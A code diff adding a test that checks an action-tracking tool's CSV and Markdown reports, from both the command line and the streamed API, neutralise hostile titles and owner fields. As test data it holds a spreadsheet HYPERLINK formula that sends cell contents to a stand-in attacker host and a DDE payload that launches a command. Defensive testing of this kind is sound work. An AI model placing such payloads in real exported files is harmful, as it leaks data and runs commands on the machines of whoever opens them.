@@ -180,3 +180,22 @@ t.test('exit 0 on a new, empty database; non-zero with a reason when the databas
     t.match(lines[0], /^overdue-report: /);
   }
 });
+
+t.test('hostile titles are inert in the command\'s CSV and Markdown, and in the report streamed from the file', async (t) => {
+  const s = await seeded(t);
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"Figures")';
+  const owner = '+cmd|\' /C calc\'!A0';
+  const res = await s.api.request('POST', '/v1/actions', { meetingId: 1, kind: 'update', title: formula, ownerText: owner, dueDate: '2024-08-01' });
+  t.equal(res.statusCode, 201, res.body);
+  const [csv, md] = await Promise.all([cli(s.path, '--as-of', AS_OF, '--format', 'csv'), cli(s.path, '--as-of', AS_OF, '--format', 'md')]);
+  // All committees from a database file: the API streams the report (jobs/report-stream.ts).
+  const streamed = (format: string) => s.api.request('GET', `/v1/reports/overdue?asOf=${AS_OF}&format=${format}`, undefined, null);
+  for (const [name, body] of [['the command', csv!.stdout], ['the streamed report', (await streamed('csv')).body]] as const) {
+    t.ok(body.includes(`"'${formula.replaceAll('"', '""')}"`), `${name}: the formula title is a quoted text cell`);
+    t.ok(body.includes(`'${owner}`), `${name}: the formula owner is text`);
+    t.notMatch(body, /(^|,)"?[=+\-@]/m, `${name}: no cell opens a formula`);
+  }
+  for (const [name, body] of [['the command', md!.stdout], ['the streamed report', (await streamed('md')).body]] as const) {
+    t.ok(body.includes("\\+cmd\\|' /C calc'\\!A0"), `${name}: the owner's active characters escaped`);
+  }
+});
